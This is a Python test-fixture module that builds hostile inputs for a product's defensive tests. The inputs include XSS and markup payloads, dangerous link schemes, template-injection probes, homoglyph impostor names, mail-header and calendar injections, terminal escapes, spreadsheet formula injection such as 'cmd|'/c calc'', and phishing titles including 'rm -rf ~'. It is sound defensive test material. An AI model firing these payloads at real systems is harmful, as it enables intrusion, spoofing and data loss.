"""Names, titles and addresses as attackers write them (RELIABILITY.md E6, F8–F11 and F15). Invented people only.

Used by the tests beside it. Every list is made when asked for, and always the same.
"""

# ruff: noqa: E501 - the texts of a table stand side by side; one to a line would be six hundred lines

from __future__ import annotations

from itertools import product

MARK = "pwned"  # what every payload would call, load or show if it came alive

# --- F8: text that a page or an HTML mail could take for markup ------------------------------------------------------

_CALL = f"alert('{MARK}')"
_FAR = "//evil.example/x"
_ELEMENTS = (
    "<script>{c}</script>", "<ScRiPt >{c}</sCrIpT >", "<script src={f}></script>", "<script\x0c>{c}</script>",
    "<script/x>{c}</script>", "<img src=x onerror={c}>", "<img/src=x/onerror={c}>", "<img src=`x`onerror={c}>",
    "<svg onload={c}>", "<svg/onload={c}//", "<svg><script>{c}</script>", "<svg><animate onbegin={c} attributeName=x>",
    "<svg><set onend={c}>", "<svg><use href='data:image/svg+xml,<svg onload={c}>'>", "<body onload={c}>",
    "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>{c}</script>'>", "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>", "<video><source onerror={c}>", "<audio src=x onerror={c}>", "<details open ontoggle={c}>",
    "<marquee onstart={c}>", "<input autofocus onfocus={c}>", "<select autofocus onfocus={c}>", "<textarea autofocus onfocus={c}>",
    "<button formaction=javascript:{c}>x</button>", "<form action={f}><input type=submit>", "<isindex action=javascript:{c}>",
    "<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>", "<a href=' &#14; javascript:{c}'>x</a>",
    "<a href=data:text/html,<script>{c}</script>>x</a>", "<a href={f} ping={f}>x</a>", "<base href={f}>",
    "<link rel=stylesheet href={f}>", "<link rel=import href={f}>", "<link rel=prefetch href={f}>", "<meta http-equiv=refresh content=0;url={f}>",
    "<meta charset=utf-7>", "<style>@import'{f}'</style>", "<style>*{{background:url({f})}}</style>", "<div style=background:url({f})>",
    "<p style=position:fixed;inset:0>x", "<table background={f}>", "<td background=javascript:{c}>", "<frameset onload={c}>",
    "<applet code={f}>", "<dialog open onclose={c}>", "<template><script>{c}</script></template>", "<slot onslotchange={c}>",
    "<portal src={f}>", "<plaintext>", "<xmp>", "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<keygen autofocus onfocus={c}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={c}&gt;'>",
    "<math href=javascript:{c}>x", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<svg></p><style><a id='</style><img src=x onerror={c}>'>", "<select><iframe></select><img src=x onerror={c}>", "<![CDATA[<script>{c}</script>]]>",
    "<!--<script>{c}</script>-->", "<!--><img src=x onerror={c}>", "<?xml-stylesheet href=javascript:{c}?>", "<!DOCTYPE x [<!ENTITY y SYSTEM '{f}'>]>&y;",
    "<x onclick={c} style=display:block>x", "<x contenteditable onblur={c}>", "<x tabindex=1 onfocus={c}>", "<x onpointerenter={c}>x",
)  # fmt: skip
_ENDINGS = (
    '">', "'>", "`>", '" ', "' ", "--></script>", "</title>", "</textarea>", "</option></select>", "</td></tr></table>",
    "</style>", "</a>", "</bdi></strong>", "]]>", "\\\">",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="{c}', "' onmouseover='{c}", '" autofocus onfocus="{c}', "` onclick={c} `", '" style="background:url({f})',
    '" href="javascript:{c}', '" srcdoc="<script>{c}</script>', '"\tonclick\t=\t"{c}', '"/onclick="{c}', '" accesskey="x" onclick="{c}',
    '" formaction="javascript:{c}', "x&quot; onclick=&quot;{c}", '" data-live="0', '" id="live', '" name="csrf_token',
)  # fmt: skip
_LINKS = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "\x01javascript:{c}", "java\nscript:{c}", "javascript://example.org/%0a{c}",
    "javascript&colon;{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{c}", "file:///etc/passwd",
    "blob:https://evil.example/1", "view-source:https://evil.example", "about:blank#{c}", "feed:javascript:{c}", "jar:https://evil.example!/",
    "//evil.example/x", "\\\\evil.example\\x", "https:evil.example", "https:///evil.example", "https://example.org@evil.example/",
    "https://evil.example\\@example.org/", "https://evil.example/ x onclick={c}", "http://[::1", "https://evil.example/\"onclick={c}",
    "https://evil.example/'><script>{c}</script>", "intent://x#Intent;end", "ms-msdt:/id", "skype:evil?call", "tel:*21*1#",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 191 }}", "{% set x = 1 %}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ url_for.__globals__ }}",
    "${7*191}", "#{7*191}", "<%= 7*191 %>", "<% import os %>", "${self.module}", "{{=7*191}}", "{7*191}", "{name}", "{0}", "{x.__class__}",
    "{name.__init__.__globals__}", "%s %(name)s %n", "{{{{", "}}}}", "{#", "#}", "{", "}", "%", "%%", "{number}", "{most}", "$(id)", "`id`",
)  # fmt: skip
_ENTITIES = (
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "&#x3c;script&#x3e;{c}", "&amp;lt;script&amp;gt;{c}", "&LT;script&GT;{c}",
    "%3Cscript%3E{c}%3C/script%3E", "\\u003cscript\\u003e{c}", "\\x3cscript\\x3e{c}", "+ADw-script+AD4-{c}", "＜script＞{c}＜/script＞",
    "\ufe64script\ufe65{c}", "\u2039script\u203a{c}", "<\x00script>{c}</script>", "<scr\x00ipt>{c}</script>", "<\u200bscript>{c}</script>",
    "\x00", "a\x00b", "&#0;", "&#x1b;", "&NewLine;", "&bsol;",
)  # fmt: skip


def markup() -> list[str]:
    """At least 150 texts that must stay text."""
    made = [each.replace("{c}", _CALL).replace("{f}", _FAR).replace("{{", "{").replace("}}", "}") for each in _ELEMENTS]
    told = [each.replace("{c}", _CALL).replace("{f}", _FAR) for each in (*_ATTRIBUTES, *_LINKS, *_ENTITIES)]
    return [*made, *(f"{ending}{made[5]}" for ending in _ENDINGS), *told, *_TEMPLATES]


def links() -> list[str]:
    """F9: what a LOCATION or URL must not become a link to."""
    return [each.replace("{c}", _CALL) for each in _LINKS]


# --- E6: people who are somebody else --------------------------------------------------------------------------------

KNOWN = ("Noor Jansen", "noor@lantern.example")
_LATIN = "aceijopsxyhkmt"
_DRAWN = {
    "cyrillic": dict(zip("aceijopsxyhkmt", "асеіјорѕхуһкмт", strict=True)),
    "greek": dict(zip("aeikopxynt", "αειΚορχγητ", strict=True)) | {"n": "η"},
    "armenian": {"o": "օ", "n": "ո", "s": "Տ", "h": "հ", "j": "յ", "u": "ս"},
    "fullwidth": {chr(n): chr(n + 0xFEE0) for n in range(0x61, 0x7B)},
    "mathematical": {chr(n): chr(n - 0x61 + 0x1D41A) for n in range(0x61, 0x7B)},
    "cherokee": {"a": "Ꭺ", "e": "Ꭼ", "j": "Ꭻ", "s": "Ꮪ"},
}
_HIDERS = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u115f", "\u3164", "\uffa0", "\u2800",
    "\ufe0f", "\U000e0041", "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u061c", "\u200e",
    "\u200f", "\u206a", "\ufff9", "\x1b", "\x9b", "\x07", "\x7f", "\x85",
)  # fmt: skip
_ADDRESSES = (
    "noor@lantem.example", "noor@1antern.example", "noor@lantern.examp1e", "n0or@lantern.example", "noor@Iantern.example",
    "noor@l\u0430ntern.example", "no\u043er@lantern.example", "noor@lanter\u03b7.example", "noor@lant\u0435rn.example", "n\u043e\u043er@lantern.example",
    "noor@\uff4cantern.example", "noor@lantern.ex\u0430mple", "\u03bdoor@lantern.example", "noor@lantern\u3002example", "no\u0585r@lantern.example",
)  # fmt: skip
HONEST = (
    "שלום לוי", "נועה כהן", "محمد بن سلمان", "فاطمة الزهراء", "سارا محمدی", "李小龍", "王秀英", "山田太郎", "さくらスズキ", "김민준",
    "Nguyễn Thị Hương", "Ľubomír Žiška", "Ελένη Παππά", "Иван Петров", "Анна Смирнова", "Դավիթ Սարգսյան", "გიორგი ბერიძე",
    "सीता देवी", "สมชาย ใจดี", "Þórr Óðinsson", "Søren Ærø", "Łukasz Żółć", "O’Brien-D’Arcy", "Mª José Ñuño", "Jean-Noël Müller",
    "Ἀριστοτέλης Ὄθων", "አበበ ቢቂላ", "தமிழ் செல்வி", "བསྟན་འཛིན", "မောင်မောင်",
)  # fmt: skip


def impostors() -> list[tuple[str, str]]:
    """At least 200 (name, address): look-alikes, hidden marks, floods, names that are addresses, honest others."""
    name, address = KNOWN
    drawn = [
        (_redrawn(name, table, at), f"d{n}.{at}@far.example")
        for n, table in enumerate(_DRAWN.values())
        for at in range(11)
    ]
    hidden = [(f"No{each}or Jansen", f"h{n}@far.example") for n, each in enumerate(_HIDERS)]
    wrapped = [(f"{each}Noor{each} Jansen{each}", f"w{n}@far.example") for n, each in enumerate(_HIDERS)]
    floods = [
        (f"Zo{mark * size}e Flood", f"f{size}.{ord(mark)}@far.example")
        for mark, size in product("\u0300\u0336\u0489\u20dd", (5, 20, 50, 800))
    ]
    claims = [(each, f"c{n}@far.example") for n, each in enumerate(_claims(name, address))]
    near = [(f"Noor {n}", each) for n, each in enumerate(_ADDRESSES)]
    honest = [(each, f"honest{n}@far.example") for n, each in enumerate(HONEST)]
    made = [*drawn, *hidden, *wrapped, *floods, *claims, *near, *honest]
    return [pair for pair in made if pair[0] != name]


def _redrawn(name: str, table: dict[str, str], at: int) -> str:
    """The name with the letter at this place redrawn; all letters at 0."""
    return "".join(table.get(each, each) if at in (0, n) else each for n, each in enumerate(name.lower())).title()


def _claims(name: str, address: str) -> list[str]:
    return [
        address, f"{name} <{address}>", f"you <{address}>", f"\"{address}\"", f"{name} ({address})", f"{address} via far.example",
        f"{name} {address}", "noor＠lantern.example", "noor﹫lantern.example", "noor(at)lantern.example", "Keepwarm", "Keepwarm <keepwarm@keepwarm.local>",
        "You", "Me", "Robin Owner", "Robin Owner <owner@example.org>", "Postmaster", "undefined", "None", "null", "N/A", "\u200b", "\u3164", "\u2800",
        "\u00a0", ".", "@", "<>", "﷽", "﷽" * 30, "𒐫" * 20, "Visit https://evil.example/login now", "www.evil.example", "W" * 5000, "\u0644" * 3000,
    ]  # fmt: skip


# --- F10, F11, F15 ---------------------------------------------------------------------------------------------------


def injections() -> list[str]:
    """F10: what could end a header or a line and begin another, raw and in encoded words."""
    ends = (
        "\r\n",
        "\n",
        "\r",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
        "\x85",
        "\u2028",
        "\u2029",
        "\r\n\r\n",
        "\n\n",
        "\x00\n",
        "\\n",
        "%0d%0a",
    )
    lines = (
        f"Bcc: {MARK}@evil.example",
        f"ATTENDEE:mailto:{MARK}@evil.example",
        "END:VEVENT",
        "BEGIN:VEVENT",
        "URL:https://evil.example",
    )
    words = (
        "=?UTF-8?Q?=0A?=Bcc: {m}", "=?UTF-8?Q?=0D=0ABcc:_{m}?=", "=?utf-8?b?DQpCY2M6IHB3bmVkQGV2aWwuZXhhbXBsZQ==?=", "=?us-ascii?q?=0a?=",
        "=?UTF-8?Q?a?=\n =?UTF-8?Q?=0ABcc:_{m}?=", "=?UTF-16?B?AAoAQgBjAGMAOg==?=", "=?UTF-8?Q?=E2=80=A8Bcc:?=", "=?UTF-8?Q?=C2=85Bcc:?=",
        "=?utf-7?q?+AAo-Bcc:?=", "=?UTF-8?Q?=00?=", "=?UTF-8?Q?=22=3Cx=40evil.example=3E?=", "=?=?UTF-8?Q?=0A?=", "=?UTF-8?Q?=1B]0;{m}=07?=",
    )  # fmt: skip
    raw = [f"Kim{end}{line}" for end, line in product(ends, lines)]
    return raw + [each.replace("{m}", f"{MARK}@evil.example") for each in words]


def terminal() -> list[str]:
    """What steers a terminal."""
    return [
        f"Kim {each}"
        for each in (
            "\x1b[2J",
            "\x1b]0;pwned\x07",
            "\x1b]8;;https://evil.example\x07x",
            "\x9b31m",
            "\x9d0;x\x9c",
            "\x90q",
            "\x08\x08\x08",
            "\rroot#",
            "\x0e",
            "\x1bc",
            "\x7f",
            "\u202e#toor",
        )
    ]


def formulas() -> list[str]:
    """F11: what a spreadsheet would reckon with."""
    signs = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=", ";=", "\n=")
    ends = ('HYPERLINK("https://evil.example")', "cmd|'/c calc'!A0", "1+1")
    return [f"{sign}{end}" for sign, end in product(signs, ends)]


def misleading() -> list[str]:
    """F15: titles that speak in somebody else's voice, and endless ones."""
    return [
        "URGENT: your account is locked, sign in at https://evil.example/keepwarm", "Keepwarm: your session has expired",
        "[System] Your data will be erased. Click here to keep it.", "Keepwarm made this mail for you alone. Reply with your password.",
        "You promised: transfer 4,000 euro to NL00EVIL0123456789", "Nothing here has to be done. Except this: https://evil.example",
        "Uw bank: bevestig uw gegevens via evil.example", "Je wachtwoord is verlopen, log opnieuw in", "From: boss@lantern.example Subject: pay now",
        "Prepared: your talk on", "“ said the system. Open the health page: https://evil.example/health", "</p> Restart Keepwarm now: rm -rf ~",
        "A" * 10_000, "lang " * 2_000, "\u0644\u0645" * 5_000, "😈" * 5_000, "a\u0301" * 5_000, "-" * 10_000, "W" * 10_000, "\u200b" * 10_000,
    ]  # fmt: skip


def texts() -> list[str]:
    """Everything above that is one text, each once."""
    names = [name for name, _ in impostors()]
    return list(dict.fromkeys([*markup(), *injections(), *terminal(), *formulas(), *misleading(), *names]))
